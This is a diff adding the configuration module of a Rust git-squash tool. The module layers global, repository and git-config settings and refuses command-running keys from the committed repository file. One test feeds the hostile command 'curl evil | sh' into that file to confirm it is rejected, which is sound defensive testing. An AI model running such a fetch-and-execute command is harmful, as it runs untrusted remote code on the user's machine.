@@ -0,0 +1,547 @@
+use std::path::{Path, PathBuf};
+use anyhow::{anyhow, bail, Context, Result};
+use clap::ValueEnum;
+use git2::{ErrorCode, Repository};
+use serde::Deserialize;
+use crate::backend::Backends;
+use crate::clipboard::CopyTarget;
+use crate::color::ColorChoice;
+use crate::dates::{DateFormat, DateSource, Dates};
+use crate::hooks::Hooks;
+use crate::i18n::{t, Locale};
+use crate::policy::Policy;
+use crate::prepush::PrePush;
+use crate::reflog;
+use crate::SquashError;
+
+const REPO_CONFIG_FILE: &str = ".git-squash.toml";
+const DEFAULT_MAX_SUBJECT_LENGTH: usize = 72;
+const DEFAULT_HISTORY_SIZE: usize = 50;
+
+/// How the message of the squash commit is chosen
+#[derive(Clone, Copy, Debug, Default, Deserialize, PartialEq, Eq, ValueEnum)]
+#[serde(rename_all = "kebab-case")]
+pub enum Strategy {
+  /// Pick from a menu of the squashed commits' messages
+  #[default]
+  Select,
+  /// Prompt for a new message
+  Custom,
+  /// Reuse the message of the most recent commit
+  Newest,
+  /// Reuse the message of the oldest squashed commit
+  Oldest
+}
+
+/// Settings read from `~/.config/git-squash/config.toml`, the per-repo
+/// `.git-squash.toml` and `squash.*` git config, in increasing precedence.
+/// Unset values fall back to the defaults below. Settings that run commands
+/// can't come from `.git-squash.toml`, which anyone can commit.
+#[derive(Clone, Debug, Default, Deserialize, PartialEq)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+  pub strategy:           Option<Strategy>,
+  pub max_subject_length: Option<usize>,
+  pub protected_branches: Option<Vec<String>>,
+  pub sign:               Option<bool>,
+  pub audit_log:          Option<PathBuf>,
+  pub message_cmd:        Option<String>,
+  /// Credit every other author in the range with a `Co-authored-by` trailer
+  pub co_authors:         Option<bool>,
+  /// Regex finding a ticket key (e.g. `PROJ-\d+`) in the branch name to prefix the subject with
+  pub ticket_pattern:     Option<String>,
+  /// Write custom messages with the Conventional Commits wizard
+  pub wizard:             Option<bool>,
+  /// Reject final messages that don't follow Conventional Commits
+  pub conventional:       Option<bool>,
+  /// Offer to prefix the subject with a gitmoji
+  pub gitmoji:            Option<bool>,
+  /// Command that gets the final message on stdin and rejects it by exiting non-zero
+  pub lint_cmd:           Option<String>,
+  /// Refuse messages without a `Signed-off-by` for the committer (DCO)
+  pub require_signoff:    Option<bool>,
+  /// Re-wrap the message body at 72 columns
+  pub wrap:               Option<bool>,
+  /// Ask with numbered lists read from stdin instead of arrow-key menus, for screen readers
+  pub plain:              Option<bool>,
+  /// Language of prompts and messages (`en` or `sv`), overriding `LANG`
+  pub locale:             Option<String>,
+  /// Color prompts and diffs always, never or only on terminals
+  pub color:              Option<ColorChoice>,
+  /// Show relative ages or absolute dates in the commit list
+  pub date_format:        Option<DateFormat>,
+  /// Show author or committer dates
+  pub date_source:        Option<DateSource>,
+  /// How many custom messages to remember in `.git/squash-history`, 0 to turn it off
+  pub history_size:       Option<usize>,
+  /// Copy the SHA or message of the squash commit to the clipboard
+  pub copy:               Option<CopyTarget>,
+  /// Offer the title of the branch's open pull or merge request in the message menu
+  pub suggest_pr:         Option<bool>,
+  /// libgit2 or the `git` binary, for all operations or per operation
+  pub backend:            Option<Backends>,
+  /// Reflog entry of a squash, with `{count}`, `{from}` and `{to}` filled in
+  pub reflog_message:     Option<String>,
+  /// Whether the pre-push hook warns about, blocks or ignores work-in-progress commits
+  pub pre_push:           Option<PrePush>,
+  pub policy:             Policy,
+  pub hooks:              Hooks
+}
+
+impl Config {
+  /// Loads the global config and layers the repository's config files and
+  /// git config on top
+  pub fn load(repo: &Repository) -> Result<Self> {
+    let git_config = repo.config().context("Failed to get git config")?;
+    Self::layered(global_config_path().as_deref(), repo, &git_config)
+  }
+
+  fn layered(global: Option<&Path>, repo: &Repository, git_config: &git2::Config) -> Result<Self> {
+    let mut config = Self::default();
+
+    if let Some(path) = global {
+      config = config.merge(Self::from_file(path)?);
+    }
+
+    if let Some(workdir) = repo.workdir() {
+      config = config.merge(Self::from_repo_file(&workdir.join(REPO_CONFIG_FILE))?);
+    }
+
+    Ok(config.merge(Self::from_git_config(git_config)?))
+  }
+
+  /// Reads `squash.*` keys, so settings can live in `.git/config` or any file
+  /// pulled in through git's (conditional) includes
+  fn from_git_config(config: &git2::Config) -> Result<Self> {
+    let strategy = match config.get_string("squash.defaultStrategy") {
+      Ok(value) => {
+        let strategy = Strategy::from_str(&value, true)
+          .map_err(|_| anyhow!(t!("invalid-setting", key = "squash.defaultStrategy", value = value)))?;
+        Some(strategy)
+      },
+      Err(_) => None
+    };
+
+    let date_format = match config.get_string("squash.dateFormat") {
+      Ok(value) => {
+        let format = DateFormat::from_str(&value, true)
+          .map_err(|_| anyhow!(t!("invalid-setting", key = "squash.dateFormat", value = value)))?;
+        Some(format)
+      },
+      Err(_) => None
+    };
+
+    // Falls back to git's own switch, like `git diff` does
+    let color = match config.get_string("squash.color").or_else(|_| config.get_string("color.ui")) {
+      Ok(value) => Some(ColorChoice::from_git(&value).with_context(|| t!("invalid-color", value = value))?),
+      Err(_) => None
+    };
+
+    let date_source = match config.get_string("squash.dateSource") {
+      Ok(value) => {
+        let source = DateSource::from_str(&value, true)
+          .map_err(|_| anyhow!(t!("invalid-setting", key = "squash.dateSource", value = value)))?;
+        Some(source)
+      },
+      Err(_) => None
+    };
+
+    let max_subject_length = match config.get_i64("squash.maxSubjectLength") {
+      Ok(value) => {
+        Some(usize::try_from(value).with_context(|| t!("invalid-number", key = "squash.maxSubjectLength", value = value))?)
+      },
+      Err(_) => None
+    };
+
+    let history_size = match config.get_i64("squash.historySize") {
+      Ok(value) => Some(usize::try_from(value).with_context(|| t!("invalid-number", key = "squash.historySize", value = value))?),
+      Err(_) => None
+    };
+
+    let copy = match config.get_string("squash.copy") {
+      Ok(value) => {
+        let target =
+          CopyTarget::from_str(&value, true).map_err(|_| anyhow!(t!("invalid-setting", key = "squash.copy", value = value)))?;
+        Some(target)
+      },
+      Err(_) => None
+    };
+
+    let backend = match config.get_string("squash.backend") {
+      Ok(value) => {
+        let backend = Backends::parse(&value).map_err(|error| anyhow!(t!("invalid-backend", value = value, error = error)))?;
+        Some(backend)
+      },
+      Err(_) => None
+    };
+
+    let pre_push = match config.get_string("squash.prePush") {
+      Ok(value) => {
+        let mode =
+          PrePush::from_str(&value, true).map_err(|_| anyhow!(t!("invalid-setting", key = "squash.prePush", value = value)))?;
+        Some(mode)
+      },
+      Err(_) => None
+    };
+
+    let mut protected_branches = Vec::new();
+    let mut entries = config
+      .multivar("squash.protectedBranches", None)
+      .context("Failed to read squash.protectedBranches")?;
+    while let Some(entry) = entries.next() {
+      let entry = entry.context("Failed to read squash.protectedBranches")?;
+      let value = entry.value().with_context(|| t!("invalid-utf8", key = "squash.protectedBranches"))?;
+      protected_branches.extend(value.split([',', ' ']).filter(|s| !s.is_empty()).map(str::to_string));
+    }
+
+    Ok(Self {
+      strategy,
+      max_subject_length,
+      protected_branches: (!protected_branches.is_empty()).then_some(protected_branches),
+      sign: get_bool(config, "squash.sign")?,
+      audit_log: config.get_path("squash.auditLog").ok(),
+      message_cmd: config.get_string("squash.messageCmd").ok(),
+      co_authors: get_bool(config, "squash.coAuthors")?,
+      ticket_pattern: config.get_string("squash.ticketPattern").ok(),
+      wizard: get_bool(config, "squash.wizard")?,
+      conventional: get_bool(config, "squash.conventional")?,
+      gitmoji: get_bool(config, "squash.gitmoji")?,
+      lint_cmd: config.get_string("squash.lintCmd").ok(),
+      require_signoff: get_bool(config, "squash.requireSignoff")?,
+      plain: get_bool(config, "squash.plain")?,
+      wrap: get_bool(config, "squash.wrap")?,
+      locale: config.get_string("squash.locale").ok(),
+      color,
+      date_format,
+      date_source,
+      history_size,
+      copy,
+      suggest_pr: get_bool(config, "squash.suggestPr")?,
+      backend,
+      reflog_message: config.get_string("squash.reflogMessage").ok(),
+      pre_push,
+      policy: Policy::default(),
+      hooks: Hooks {
+        pre_squash:  config.get_string("squash.preSquash").ok(),
+        post_squash: config.get_string("squash.postSquash").ok()
+      }
+    })
+  }
+
+  /// Reads the file that comes with the repository, which is as trusted as
+  /// whoever committed it, so it must not name commands to run
+  fn from_repo_file(path: &Path) -> Result<Self> {
+    let config = Self::from_file(path)?;
+    let commands = config.commands();
+    if !commands.is_empty() {
+      bail!(SquashError::Refused(t!("repo-config-command", path = path.display(), keys = commands.join(", "))));
+    }
+
+    Ok(config)
+  }
+
+  /// The keys set here that name a command to run
+  fn commands(&self) -> Vec<&'static str> {
+    let commands = [
+      ("message_cmd", self.message_cmd.is_some()),
+      ("lint_cmd", self.lint_cmd.is_some()),
+      ("hooks.pre_squash", self.hooks.pre_squash.is_some()),
+      ("hooks.post_squash", self.hooks.post_squash.is_some())
+    ];
+    commands.into_iter().filter(|(_, set)| *set).map(|(key, _)| key).collect()
+  }
+
+  fn from_file(path: &Path) -> Result<Self> {
+    if !path.exists() {
+      return Ok(Self::default());
+    }
+
+    let content = std::fs::read_to_string(path).with_context(|| format!("Failed to read {}", path.display()))?;
+    toml::from_str(&content).with_context(|| t!("config-parse-failed", path = path.display()))
+  }
+
+  /// Values set in `other` take precedence over the ones in `self`
+  pub fn merge(self, other: Self) -> Self {
+    Self {
+      strategy:           other.strategy.or(self.strategy),
+      max_subject_length: other.max_subject_length.or(self.max_subject_length),
+      protected_branches: other.protected_branches.or(self.protected_branches),
+      sign:               other.sign.or(self.sign),
+      audit_log:          other.audit_log.or(self.audit_log),
+      message_cmd:        other.message_cmd.or(self.message_cmd),
+      co_authors:         other.co_authors.or(self.co_authors),
+      ticket_pattern:     other.ticket_pattern.or(self.ticket_pattern),
+      wizard:             other.wizard.or(self.wizard),
+      conventional:       other.conventional.or(self.conventional),
+      gitmoji:            other.gitmoji.or(self.gitmoji),
+      lint_cmd:           other.lint_cmd.or(self.lint_cmd),
+      require_signoff:    other.require_signoff.or(self.require_signoff),
+      wrap:               other.wrap.or(self.wrap),
+      plain:              other.plain.or(self.plain),
+      locale:             other.locale.or(self.locale),
+      date_format:        other.date_format.or(self.date_format),
+      date_source:        other.date_source.or(self.date_source),
+      color:              other.color.or(self.color),
+      history_size:       other.history_size.or(self.history_size),
+      copy:               other.copy.or(self.copy),
+      suggest_pr:         other.suggest_pr.or(self.suggest_pr),
+      backend:            other.backend.or(self.backend),
+      reflog_message:     other.reflog_message.or(self.reflog_message),
+      pre_push:           other.pre_push.or(self.pre_push),
+      policy:             self.policy.merge(other.policy),
+      hooks:              self.hooks.merge(other.hooks)
+    }
+  }
+
+  pub fn strategy(&self) -> Strategy {
+    self.strategy.unwrap_or_default()
+  }
+
+  pub fn max_subject_length(&self) -> usize {
+    self.max_subject_length.unwrap_or(DEFAULT_MAX_SUBJECT_LENGTH)
+  }
+
+  pub fn suggest_pr(&self) -> bool {
+    self.suggest_pr.unwrap_or(true)
+  }
+
+  pub fn backend(&self) -> Backends {
+    self.backend.unwrap_or_default()
+  }
+
+  pub fn reflog_message(&self) -> &str {
+    self.reflog_message.as_deref().unwrap_or(reflog::DEFAULT_MESSAGE)
+  }
+
+  pub fn history_size(&self) -> usize {
+    self.history_size.unwrap_or(DEFAULT_HISTORY_SIZE)
+  }
+
+  pub fn sign(&self) -> bool {
+    self.sign.unwrap_or(false)
+  }
+
+  pub fn co_authors(&self) -> bool {
+    self.co_authors.unwrap_or(false)
+  }
+
+  pub fn require_signoff(&self) -> bool {
+    self.require_signoff.unwrap_or(false)
+  }
+
+  pub fn pre_push(&self) -> PrePush {
+    self.pre_push.unwrap_or_default()
+  }
+
+  pub fn plain(&self) -> bool {
+    self.plain.unwrap_or(false)
+  }
+
+  pub fn wizard(&self) -> bool {
+    self.wizard.unwrap_or(false)
+  }
+
+  pub fn conventional(&self) -> bool {
+    self.conventional.unwrap_or(false)
+  }
+
+  pub fn gitmoji(&self) -> bool {
+    self.gitmoji.unwrap_or(false)
+  }
+
+  pub fn wrap(&self) -> bool {
+    self.wrap.unwrap_or(false)
+  }
+
+  pub fn color(&self) -> ColorChoice {
+    self.color.unwrap_or_default()
+  }
+
+  pub fn dates(&self) -> Dates {
+    Dates {
+      format: self.date_format.unwrap_or_default(), source: self.date_source.unwrap_or_default()
+    }
+  }
+
+  /// The configured locale, if any
+  pub fn locale(&self) -> Result<Option<Locale>> {
+    self
+      .locale
+      .as_deref()
+      .map(|name| Locale::parse(name).ok_or_else(|| anyhow!(t!("unsupported-locale", locale = name))))
+      .transpose()
+  }
+
+  /// Whether `branch` matches one of the protected branch patterns
+  pub fn is_protected(&self, branch: &str) -> bool {
+    self.protected_branches.iter().flatten().any(|pattern| glob_match(pattern, branch))
+  }
+}
+
+/// `key` as a boolean, refusing values git wouldn't take as one rather than
+/// acting as if it was unset
+fn get_bool(config: &git2::Config, key: &str) -> Result<Option<bool>> {
+  match config.get_bool(key) {
+    Ok(value) => Ok(Some(value)),
+    Err(error) if error.code() == ErrorCode::NotFound => Ok(None),
+    Err(_) => {
+      let value = config.get_string(key).unwrap_or_default();
+      Err(anyhow!(t!("invalid-bool", key = key, value = value)))
+    }
+  }
+}
+
+fn global_config_path() -> Option<PathBuf> {
+  let base = std::env::var_os("XDG_CONFIG_HOME")
+    .map(PathBuf::from)
+    .or_else(|| std::env::var_os("HOME").map(|home| Path::new(&home).join(".config")))?;
+  Some(base.join("git-squash").join("config.toml"))
+}
+
+/// Matches `text` against `pattern`, where `*` matches any run of characters
+pub fn glob_match(pattern: &str, text: &str) -> bool {
+  let Some((prefix, rest)) = pattern.split_once('*') else {
+    return pattern == text;
+  };
+
+  let Some(mut remaining) = text.strip_prefix(prefix) else {
+    return false;
+  };
+
+  let mut parts = rest.split('*').peekable();
+  while let Some(part) = parts.next() {
+    if parts.peek().is_none() {
+      return remaining.ends_with(part);
+    }
+
+    match remaining.find(part) {
+      Some(index) => remaining = &remaining[index + part.len()..],
+      None => return false
+    }
+  }
+
+  true
+}
+
+#[cfg(test)]
+mod tests {
+  use super::*;
+
+  #[test]
+  fn test_parse_config() -> Result<()> {
+    let config: Config = toml::from_str(
+      r#"
+        strategy = "newest"
+        max_subject_length = 50
+        protected_branches = ["main", "release/*"]
+        sign = true
+
+        [policy]
+        max_count = 10
+      "#
+    )?;
+
+    assert_eq!(config.strategy(), Strategy::Newest);
+    assert_eq!(config.max_subject_length(), 50);
+    assert!(config.is_protected("release/1.0"));
+    assert!(!config.is_protected("feature/x"));
+    assert!(config.sign());
+    assert_eq!(config.policy.max_count, Some(10));
+    Ok(())
+  }
+
+  #[test]
+  fn test_merge_prefers_other() {
+    let global = Config {
+      strategy: Some(Strategy::Custom),
+      sign: Some(true),
+      ..Config::default()
+    };
+    let local = Config {
+      strategy: Some(Strategy::Oldest),
+      ..Config::default()
+    };
+
+    let merged = global.merge(local);
+    assert_eq!(merged.strategy(), Strategy::Oldest);
+    assert!(merged.sign());
+  }
+
+  /// Config of `repo` with `global` as the global config file, leaving out
+  /// the config files of whoever runs the tests
+  fn isolated(repo: &Repository, global: &Path) -> Result<Config> {
+    let git_config = repo.config()?.open_level(git2::ConfigLevel::Local)?;
+    Config::layered(Some(global), repo, &git_config)
+  }
+
+  #[test]
+  fn test_git_config() -> Result<()> {
+    let (dir, repo) = crate::testing::repo_with_commits(1)?;
+    let global = dir.path().join("global.toml");
+    std::fs::write(&global, "strategy = \"oldest\"\nwrap = true\n")?;
+    let mut git_config = repo.config()?;
+    git_config.set_str("squash.defaultStrategy", "custom")?;
+    git_config.set_i64("squash.maxSubjectLength", 60)?;
+    git_config.set_multivar("squash.protectedBranches", "^$", "main, develop")?;
+    git_config.set_multivar("squash.protectedBranches", "^$", "release/*")?;
+    git_config.set_bool("squash.sign", true)?;
+
+    let config = isolated(&repo, &global)?;
+    assert_eq!(config.strategy(), Strategy::Custom);
+    assert_eq!(config.wrap, Some(true));
+    assert_eq!(config.max_subject_length(), 60);
+    assert!(config.is_protected("develop"));
+    assert!(config.is_protected("release/1"));
+    assert!(config.sign());
+    Ok(())
+  }
+
+  #[test]
+  fn test_repo_file_cannot_run_commands() -> Result<()> {
+    let (dir, repo) = crate::testing::repo_with_commits(1)?;
+    let global = dir.path().join("global.toml");
+    std::fs::write(&global, "[hooks]\npre_squash = \"cargo test\"\n")?;
+    repo.config()?.set_str("squash.postSquash", "echo done")?;
+    let config = isolated(&repo, &global)?;
+    assert_eq!(config.hooks.pre_squash.as_deref(), Some("cargo test"));
+    assert_eq!(config.hooks.post_squash.as_deref(), Some("echo done"));
+
+    std::fs::write(dir.path().join(REPO_CONFIG_FILE), "wrap = true\n\n[hooks]\npost_squash = \"curl evil | sh\"\n")?;
+    let error = isolated(&repo, &global).unwrap_err();
+    assert!(error.to_string().contains("hooks.post_squash"));
+    assert!(matches!(error.downcast_ref(), Some(SquashError::Refused(_))));
+
+    std::fs::write(dir.path().join(REPO_CONFIG_FILE), "message_cmd = \"curl evil | sh\"\n")?;
+    assert!(isolated(&repo, &global).unwrap_err().to_string().contains("message_cmd"));
+    std::fs::write(dir.path().join(REPO_CONFIG_FILE), "lint_cmd = \"curl evil | sh\"\n")?;
+    assert!(isolated(&repo, &global).unwrap_err().to_string().contains("lint_cmd"));
+    Ok(())
+  }
+
+  #[test]
+  fn test_git_config_rejects_unknown_strategy() -> Result<()> {
+    let (_dir, repo) = crate::testing::repo_with_commits(1)?;
+    repo.config()?.set_str("squash.defaultStrategy", "bogus")?;
+    assert!(isolated(&repo, Path::new("missing.toml")).is_err());
+    Ok(())
+  }
+
+  #[test]
+  fn test_git_config_rejects_invalid_bool() -> Result<()> {
+    let (_dir, repo) = crate::testing::repo_with_commits(1)?;
+    repo.config()?.set_str("squash.sign", "sometimes")?;
+    let error = isolated(&repo, Path::new("missing.toml")).unwrap_err();
+    assert_eq!(error.to_string(), "Invalid squash.sign `sometimes`, expected true or false");
+    Ok(())
+  }
+
+  #[test]
+  fn test_glob_match() {
+    assert!(glob_match("main", "main"));
+    assert!(glob_match("release/*", "release/2.0"));
+    assert!(glob_match("*-stable", "1.x-stable"));
+    assert!(glob_match("a*b*c", "a-b-c"));
+    assert!(!glob_match("a*b*c", "a-c-b"));
+    assert!(!glob_match("main", "main2"));
+  }
+}